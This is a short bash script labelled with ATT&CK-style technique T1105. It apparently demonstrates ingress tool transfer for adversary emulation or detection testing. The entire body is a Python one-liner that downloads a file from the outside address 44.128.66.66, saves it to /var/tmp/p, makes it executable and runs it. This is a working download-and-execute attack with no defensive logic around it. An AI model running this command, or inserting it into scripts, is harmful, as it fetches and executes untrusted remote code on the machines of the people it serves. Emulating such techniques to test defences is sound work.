#!/bin/bash
# T1105: An interpreter fetches a program and starts it.
python3 -c 'import urllib.request as u,os;open("/var/tmp/p","wb").write(u.urlopen("http://44.128.66.66/payload").read());os.chmod("/var/tmp/p",493);os.system("/var/tmp/p")'
